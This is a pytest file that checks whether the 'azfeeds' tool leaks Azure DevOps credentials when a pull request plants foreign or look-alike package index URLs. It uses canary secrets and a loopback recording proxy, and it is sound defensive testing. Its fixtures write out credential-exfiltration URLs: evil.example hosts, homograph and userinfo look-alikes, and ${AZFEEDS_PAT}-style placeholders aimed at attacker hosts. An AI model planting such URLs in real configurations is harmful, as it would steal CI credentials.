"""Credentials go only where the README ("Where a credential may go") allows.

A scheduled job runs azfeeds on content that any pull request can change. The repository here
holds look-alike and foreign index URLs next to one genuine cloud URL (some of them with pip and
PDM ``${VAR}`` placeholders that ask for the governed variables), and every cloud credential
is set (``AZFEEDS_PAT``, ``AZURE_DEVOPS_EXT_PAT``, ``SYSTEM_ACCESSTOKEN`` with ``TF_BUILD``, a
service principal whose token comes from a loopback fake Entra authority, an Azure CLI session,
``--pat-file``), each with a distinctive canary value.

azfeeds runs as a real process with ``HTTP(S)_PROXY`` pointing at a recording TLS-intercepting
proxy on 127.0.0.1 (``mitm_proxy.py``): whatever host azfeeds asks for, the proxy plays it and
records every header and body; a second listener plays a foreign host reached directly
(``http://127.0.0.1:PORT`` and ``http://localhost:PORT``). Nothing leaves 127.0.0.1: the proxy
never forwards, and no host name is resolved by the client (the proxy gets the names).

The proof has two sides: not one canary reaches a host that is not Azure DevOps Services over
https (the leak count is 0), and the same harness does see each credential where azfeeds may
send it (``feeds.dev.azure.com``), so it would catch a credential that went elsewhere.
"""

from __future__ import annotations

import json
import os
import re
from collections import Counter
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from fake_entra import FakeEntra, make_tls_files
from helpers import Result, run_proc, write_fake_az
from mitm_proxy import CertAuthority, MitmProxy, Seen

# -- canaries --------------------------------------------------------------------------------

AZFEEDS_PAT = "CANARY-AZFEEDS-PAT-7h3k"
EXT_PAT = "CANARY-EXT-PAT-2m9q"
SYSTEM_TOKEN = "CANARY-SYSTEM-ACCESSTOKEN-5r1w"
SP_SECRET = "CANARY-SP-SECRET-8d4f"
AZ_TOKEN = "CANARY-AZCLI-TOKEN-3v6n"
PAT_FILE = "CANARY-PAT-FILE-9x2c"
UV_GENUINE = "CANARY-UV-INDEX-GENUINE-4b8t"  # the genuine index's own password
ENTRA_PREFIX = "CANARY-ENTRA"  # the fake authority issues f"{ENTRA_PREFIX}-0001-q7Zx", ...
MARKER = "canary"  # every canary holds it: any casing of it in a request is a leak too

CLIENT_ID = "11111111-2222-3333-4444-555555555555"
TENANT = "tenant-a"
GENUINE = "https://pkgs.dev.azure.com/orgA/ProjectX/_packaging/feedx/pypi/simple/"


# -- the policy, stated here independently of azfeeds ---------------------------------------


def is_azure_devops_services(scheme: str, host: str) -> bool:
    """dev.azure.com, its subdomains and *.visualstudio.com, over https."""
    host = host.lower().rstrip(".")
    return scheme == "https" and (
        host == "dev.azure.com" or host.endswith((".dev.azure.com", ".visualstudio.com"))
    )


# -- the repository under test ---------------------------------------------------------------


def foreign_urls(port: int) -> list[str]:
    """Index URLs that a pull request could add; none of them is a genuine cloud feed."""
    return [
        "https://pkgs.dev.azure.com.evil.example/orgA/ProjectX/_packaging/feedx/pypi/simple/",
        "https://evil.example/x/_packaging/f/pypi/simple/",
        "https://evilpkgs.dev.azure.com/orgA/_packaging/f/pypi/simple/",
        "http://evil.example/x/_packaging/g/pypi/simple/",
        f"http://127.0.0.1:{port}/x/_packaging/f/pypi/simple/",
        f"http://localhost:{port}/y/_packaging/f/pypi/simple/",
        "https://dev.azure.com.evil.example/orgA/_packaging/f/pypi/simple/",
        "https://orga.pkgs.visualstudio.com.evil.example/DefaultCollection/_packaging/f/pypi/simple/",
        "https://pkgs.dev.azure.com@evil.example/orgC/_packaging/f/pypi/simple/",
        "https://pkgs.dev.\u0430zure.com/orgD/_packaging/f/pypi/simple/",  # Cyrillic a
        "http://pkgs.dev.azure.com/orgA/ProjectX/_packaging/feedx/pypi/simple/",  # plain http
    ]


def make_repository(root: Path, port: int) -> Path:
    urls = foreign_urls(port)
    root.mkdir(parents=True)
    indexes = "".join(
        f'\n[[tool.uv.index]]\nname = "{name}"\nurl = "{url}"\n'
        for name, url in [("genuine", GENUINE), *((f"pr{n}", u) for n, u in enumerate(urls))]
    )
    extra = ",\n".join(f'    "{u}"' for u in urls[:6])
    (root / "pyproject.toml").write_text(
        '[project]\nname = "scheduled-job"\nversion = "1.0"\n\n'
        f"[tool.uv]\nextra-index-url = [\n{extra},\n]\n{indexes}"
        # PDM expands ${VAR} in source URLs; these ask for variables azfeeds governs
        '\n[[tool.pdm.source]]\nname = "pr-pdm"\n'
        'url = "https://${AZURE_CLIENT_ID}:${AZURE_CLIENT_SECRET}@evil.example/p3/_packaging/f/pypi/simple/"\n'
        '\n[[tool.pdm.source]]\nname = "pr-pdm2"\n'
        f'url = "http://x:${{AZURE_DEVOPS_EXT_PAT}}@localhost:{port}/p4/_packaging/f/pypi/simple/"\n',
        encoding="utf-8",
    )
    (root / "requirements.txt").write_text(
        f"--index-url http://localhost:{port}/y/_packaging/f/pypi/simple/\n"
        "--extra-index-url https://evil.example/x/_packaging/f/pypi/simple/\n"
        "--extra-index-url https://pkgs.dev.azure.com.evil.example/orgA/ProjectX/_packaging/feedx/pypi/simple/\n"
        # placeholders asking for the governed variables: pip would expand them, azfeeds never
        "--extra-index-url https://x:${AZFEEDS_PAT}@evil.example/p1/_packaging/f/pypi/simple/\n"
        f"--extra-index-url http://x:${{SYSTEM_ACCESSTOKEN}}@127.0.0.1:{port}/p2/_packaging/f/pypi/simple/\n"
        "alpha>=1\n",
        encoding="utf-8",
    )
    (root / "pip.conf").write_text(
        "[global]\n"
        "index-url = https://evil.example/pip/_packaging/p/pypi/simple/\n"
        "extra-index-url =\n"
        "    https://dev.azure.com.evil.example/orgA/_packaging/f/pypi/simple/\n"
        f"    http://127.0.0.1:{port}/x/_packaging/f/pypi/simple/\n",
        encoding="utf-8",
    )
    return root


# -- the runs --------------------------------------------------------------------------------

ALL_CREDENTIALS = {
    "AZFEEDS_PAT": AZFEEDS_PAT,
    "AZURE_DEVOPS_EXT_PAT": EXT_PAT,
    "SYSTEM_ACCESSTOKEN": SYSTEM_TOKEN,
    "TF_BUILD": "True",
    "SYSTEM_TEAMFOUNDATIONCOLLECTIONURI": "https://dev.azure.com/orgA/",
    "AZURE_TENANT_ID": TENANT,
    "AZURE_CLIENT_ID": CLIENT_ID,
    "AZURE_CLIENT_SECRET": SP_SECRET,
    "UV_INDEX_GENUINE_PASSWORD": UV_GENUINE,
}
PATS = ("AZFEEDS_PAT", "AZURE_DEVOPS_EXT_PAT")
PIPELINE = ("SYSTEM_ACCESSTOKEN", "TF_BUILD", "SYSTEM_TEAMFOUNDATIONCOLLECTIONURI")


@dataclass(frozen=True)
class Run:
    name: str
    args: tuple[str, ...]
    without: tuple[str, ...] = ()  # credential variables left out of this run
    expect: str | None = None  # the canary azfeeds should send to feeds.dev.azure.com
    pat_file: bool = False
    debug: bool = False  # --debug prints the traceback of an expected error, by design


RUNS = [
    Run("map", ("map", "--verbose"), expect="AZFEEDS_PAT"),
    Run("rewrite", ("rewrite", "--verbose"), expect="AZFEEDS_PAT"),
    Run("rewrite --check", ("rewrite", "--check", "--verbose"), expect="AZFEEDS_PAT"),
    Run("doctor", ("doctor", "--verbose"), expect="AZFEEDS_PAT"),
    Run(
        "rewrite --check --auth pat", ("rewrite", "--check", "--auth", "pat"), expect="AZFEEDS_PAT"
    ),
    Run(
        "rewrite --check --auth pipeline",
        ("rewrite", "--check", "--auth", "pipeline"),
        expect="SYSTEM_ACCESSTOKEN",
    ),
    Run(
        "rewrite --check --auth service-principal",
        ("rewrite", "--check", "--auth", "service-principal"),
        expect="Entra token",
    ),
    Run(
        "rewrite --check --auth azure-cli",
        ("rewrite", "--check", "--auth", "azure-cli"),
        expect="az token",
    ),
    Run("rewrite --check --pat-file", ("rewrite", "--check"), expect="--pat-file", pat_file=True),
    Run("map --pat-file", ("map",), expect="--pat-file", pat_file=True),
    Run(
        "rewrite --check, AZURE_DEVOPS_EXT_PAT",
        ("rewrite", "--check", "--verbose"),
        without=("AZFEEDS_PAT",),
        expect="AZURE_DEVOPS_EXT_PAT",
    ),
    Run(
        "rewrite --check, Entra only",
        ("rewrite", "--check", "--verbose"),
        without=(*PATS, *PIPELINE, "UV_INDEX_GENUINE_PASSWORD"),
        expect="Entra token",
    ),
    # a host named on the command line still gets no credential from the environment
    Run(
        "map --org https://evil.example/x", ("map", "--org", "https://evil.example/x", "--verbose")
    ),
    Run(
        "rewrite --check --debug",
        ("rewrite", "--check", "--debug"),
        expect="AZFEEDS_PAT",
        debug=True,
    ),
]

_MACHINE_PREFIXES = (
    "AZFEEDS_",
    "UV_",
    "AZURE_",
    "AZURESUBSCRIPTION_",
    "ACTIONS_ID_TOKEN_",
    "SYSTEM_",
    "IDENTITY_",
    "MSI_",
    "IMDS_",
    "REQUESTS_CA_BUNDLE",
    "CURL_CA_BUNDLE",
    "SSL_CERT_",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
)
_MACHINE = {"TF_BUILD", "GITHUB_ACTIONS", "NO_COLOR", "FORCE_COLOR"}


@dataclass
class Campaign:
    """Everything the runs produced."""

    results: dict[str, Result]
    seen: list[Seen]  # the proxy's and the direct listener's, CONNECTs included
    entra_requests: list[Any]
    entra_issued: list[str]
    az_calls: list[str]
    repo: Path
    files_before: dict[str, bytes]
    notes: list[str]
    canaries: dict[str, str] = field(default_factory=dict)  # name -> value


@pytest.fixture(scope="module")
def campaign(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Campaign]:
    base = tmp_path_factory.mktemp("placement")
    with pytest.MonkeyPatch.context() as mp:
        # module scope runs before the autouse isolation of conftest: isolate here as well
        for key in list(os.environ):
            if key.upper().startswith(_MACHINE_PREFIXES) or key in _MACHINE:
                mp.delenv(key, raising=False)
        ca = CertAuthority(base / "mitm")
        tls = make_tls_files(base)
        bundle = base / "ca-bundle.pem"
        bundle.write_bytes(ca.cert_path.read_bytes() + tls.cert.read_bytes())
        proxy = MitmProxy(ca).start()
        foreign = MitmProxy(ca).start()
        entra = FakeEntra(tls, token_prefix=ENTRA_PREFIX, secrets={CLIENT_ID: SP_SECRET}).start()
        try:
            yield _drive(base, bundle, proxy, foreign, entra)
        finally:
            entra.stop()
            foreign.stop()
            proxy.stop()


def _fake_az(directory: Path) -> Path:
    directory.mkdir()
    log = directory / "az-calls.log"
    doc = json.dumps({"accessToken": AZ_TOKEN, "expires_on": 4_102_444_800, "tokenType": "Bearer"})
    write_fake_az(
        directory,
        "import sys\n"
        f"with open({str(log)!r}, 'a') as f:\n"
        "    f.write(' '.join(sys.argv[1:]) + '\\n')\n"
        f"print({doc!r})\n",
    )
    return log


def _drive(
    base: Path, bundle: Path, proxy: MitmProxy, foreign: MitmProxy, entra: FakeEntra
) -> Campaign:
    az_log = _fake_az(base / "bin")
    pat_file = base / "pat.txt"  # outside the repository
    pat_file.write_text(PAT_FILE + "\n")
    repo = make_repository(base / "repo", foreign.port)
    files_before = {p.name: p.read_bytes() for p in repo.iterdir()}
    common = {
        "HTTP_PROXY": proxy.url,
        "HTTPS_PROXY": proxy.url,
        "http_proxy": proxy.url,
        "https_proxy": proxy.url,
        # only loopback bypasses the proxy: the fake authority and the direct foreign listener
        "NO_PROXY": "127.0.0.1,localhost",
        "no_proxy": "127.0.0.1,localhost",
        "REQUESTS_CA_BUNDLE": str(bundle),
        "AZURE_AUTHORITY_HOST": entra.base,
        "AZFEEDS_CACHE_DIR": str(base / "cache"),
        "AZFEEDS_RATE_LIMIT_WAIT": "0",
        "PATH": f"{base / 'bin'}{os.pathsep}{os.environ.get('PATH', '')}",
    }
    results: dict[str, Result] = {}
    for run in RUNS:
        env = {**common, **{k: v for k, v in ALL_CREDENTIALS.items() if k not in run.without}}
        args = [*run.args, "--timeout", "3"]
        if run.pat_file:
            args += ["--pat-file", str(pat_file)]
        proxy.label(run.name)
        foreign.label(run.name)
        results[run.name] = run_proc(args, cwd=repo, env=env, timeout=60)
    calls = az_log.read_text().splitlines() if az_log.exists() else []
    return Campaign(
        results=results,
        seen=[*proxy.seen, *foreign.seen],
        entra_requests=entra.requests,
        entra_issued=list(entra.issued),
        az_calls=calls,
        repo=repo,
        files_before=files_before,
        notes=[*proxy.notes, *foreign.notes],
        canaries={
            "AZFEEDS_PAT": AZFEEDS_PAT,
            "AZURE_DEVOPS_EXT_PAT": EXT_PAT,
            "SYSTEM_ACCESSTOKEN": SYSTEM_TOKEN,
            "AZURE_CLIENT_SECRET": SP_SECRET,
            "az token": AZ_TOKEN,
            "--pat-file": PAT_FILE,
            "UV_INDEX_GENUINE_PASSWORD": UV_GENUINE,
            **{f"Entra token {t}": t for t in entra.issued},
        },
    )


# -- analysis --------------------------------------------------------------------------------


def found_in(texts: list[str], canaries: Mapping[str, str]) -> list[str]:
    """The names of the canaries in ``texts`` (and the marker, for an unlisted one)."""
    names = [name for name, value in canaries.items() if any(value in t for t in texts)]
    if not names and any(MARKER in t.lower() for t in texts):
        names.append(f"an unlisted value holding {MARKER!r}")
    return names


def foreign_requests(c: Campaign) -> list[Seen]:
    return [s for s in c.seen if not is_azure_devops_services(s.scheme, s.host)]


def leaks(c: Campaign) -> list[str]:
    """One line per credential found in a request to a host that may not receive it."""
    out = [
        f"{s.describe()} carried {name}"
        for s in foreign_requests(c)
        for name in found_in(s.texts(), c.canaries)
    ]
    # the fake authority may receive the service principal's secret, and nothing else
    others = {k: v for k, v in c.canaries.items() if k != "AZURE_CLIENT_SECRET"}
    for r in c.entra_requests:
        texts = [
            r.path,
            *(f"{k}: {v}" for k, v in r.headers.items()),
            *(f"{k}={v}" for k, v in r.query.items()),
            *(f"{k}={v}" for k, v in r.form.items()),
        ]
        out.extend(
            f"fake Entra authority {r.method} {r.path} carried {name}"
            for name in found_in(texts, others)
            if not name.startswith("an unlisted")
        )
    return out


def sent_to_azure(c: Campaign, run: str) -> set[str]:
    """The canaries azfeeds sent to feeds.dev.azure.com in one run, by name."""
    names: set[str] = set()
    for s in c.seen:
        if s.run != run or s.host != "feeds.dev.azure.com" or s.via != "tunnel":
            continue
        auth = s.header("Authorization") or ""
        for secret in s.basic_secrets():
            names.update(n for n, v in c.canaries.items() if secret == f":{v}")
        if auth.startswith("Bearer "):
            token = auth[len("Bearer ") :]
            names.update(n for n, v in c.canaries.items() if token == v)
            if token in c.entra_issued:
                names.add("Entra token")
    return names


def summary(c: Campaign) -> str:
    requests = [s for s in c.seen if s.via != "connect"]
    per_host = Counter(f"{s.scheme}://{s.host}" for s in requests)
    foreign = [s for s in foreign_requests(c) if s.via != "connect"]
    lines = [
        f"runs: {len(c.results)}; requests recorded: {len(requests)} "
        f"(+{len(c.seen) - len(requests)} CONNECTs); to hosts that may not receive cloud "
        f"credentials: {len(foreign)}; leaks: {len(leaks(c))}",
        "requests per host: "
        + ", ".join(f"{host} {n}" for host, n in sorted(per_host.items(), key=lambda i: i[0])),
        f"fake Entra authority: {len(c.entra_requests)} requests, tokens issued "
        f"{len(c.entra_issued)}; az calls: {len(c.az_calls)}",
        "exit codes: " + ", ".join(f"{n}={r.code}" for n, r in c.results.items()),
    ]
    allowed: dict[str, set[str]] = {}
    for s in requests:
        if is_azure_devops_services(s.scheme, s.host):
            names = found_in(s.texts(), c.canaries)
            allowed.setdefault(s.host, set()).update(
                "Entra token" if n.startswith("Entra token") else n for n in names
            )
    lines.append(
        "credentials received by Azure DevOps Services hosts (allowed): "
        + "; ".join(f"{h}: {', '.join(sorted(n)) or '-'}" for h, n in sorted(allowed.items()))
    )
    return "\n".join(lines)


# -- the tests -------------------------------------------------------------------------------


def test_no_credential_reaches_a_foreign_or_look_alike_host(campaign: Campaign) -> None:
    found = leaks(campaign)
    print("\n" + summary(campaign))
    assert found == [], f"leak count: {len(found)}\n" + "\n".join(found) + "\n" + summary(campaign)


def test_the_listener_sees_each_credential_where_azfeeds_may_send_it(campaign: Campaign) -> None:
    """The positive control: the harness is not blind to credentials on the wire."""
    missing = {
        run.name: (run.expect, sorted(sent_to_azure(campaign, run.name)))
        for run in RUNS
        if run.expect is not None and run.expect not in sent_to_azure(campaign, run.name)
    }
    assert not missing, f"expected canary not seen at feeds.dev.azure.com: {missing}"
    # the doctor probes the genuine index with its own password, over https, through the proxy
    probes = [
        s
        for s in campaign.seen
        if s.run == "doctor" and s.host == "pkgs.dev.azure.com" and s.scheme == "https"
    ]
    assert any(f":{UV_GENUINE}" in s.basic_secrets() for s in probes), [
        s.describe() for s in probes
    ]
    # and the service principal's secret went to the fake authority, never to the proxy
    posts = [r for r in campaign.entra_requests if r.form.get("client_secret") == SP_SECRET]
    assert posts, "the service principal never asked the fake authority for a token"


def test_every_foreign_host_was_really_contacted(campaign: Campaign) -> None:
    """The foreign hosts got azfeeds' requests (so a leak had every chance to show up)."""
    contacted = {(s.scheme, s.host) for s in campaign.seen if s.via != "connect"}
    wanted = {
        ("https", "pkgs.dev.azure.com.evil.example"),
        ("https", "evil.example"),
        ("http", "evil.example"),
        ("https", "evilpkgs.dev.azure.com"),
        ("http", "127.0.0.1"),
        ("http", "localhost"),
        ("https", "dev.azure.com.evil.example"),
        ("https", "orga.pkgs.visualstudio.com.evil.example"),
        ("https", "pkgs.dev.xn--zure-43d.com"),  # the Cyrillic look-alike, as IDNA
        ("http", "pkgs.dev.azure.com"),
    }
    assert wanted <= contacted, f"never contacted: {sorted(wanted - contacted)}"
    feeds_api = {
        s.host
        for s in foreign_requests(campaign)
        if "/_apis/packaging/feeds" in unquote(s.path).lower()
    }
    assert {"pkgs.dev.azure.com.evil.example", "evil.example", "127.0.0.1"} <= feeds_api, feeds_api
    assert not [n for n in campaign.notes if "TLS handshake" in n], campaign.notes


def test_no_canary_in_output_or_files_and_no_traceback(campaign: Campaign) -> None:
    problems = []
    for run in RUNS:
        result = campaign.results[run.name]
        names = found_in([result.stdout, result.stderr], campaign.canaries)
        if names:
            problems.append(f"{run.name}: output holds {names}")
        if result.code not in (0, 1, 3, 4, 5):
            problems.append(f"{run.name}: exit {result.code}\n{result.stderr[-2000:]}")
        if "Traceback (most recent call last)" in result.output:
            # --debug shows the traceback of an expected error (AuthError, ...) by design
            expected = (
                run.debug
                and re.search(r"(?m)^azfeeds\.errors\.\w+Error: ", result.stderr)
                and "internal error" not in result.stderr
            )
            if not expected:
                problems.append(f"{run.name}: traceback\n{result.stderr[-3000:]}")
    after = {p.name: p.read_bytes() for p in campaign.repo.iterdir()}
    if after != campaign.files_before:
        problems.append("the repository changed, although every run failed (nothing is written)")
    for path in campaign.repo.rglob("*"):
        if path.is_file():
            names = found_in([path.read_bytes().decode("utf-8", "replace")], campaign.canaries)
            if names:
                problems.append(f"{path.name} holds {names}")
    assert not problems, "\n".join(problems)
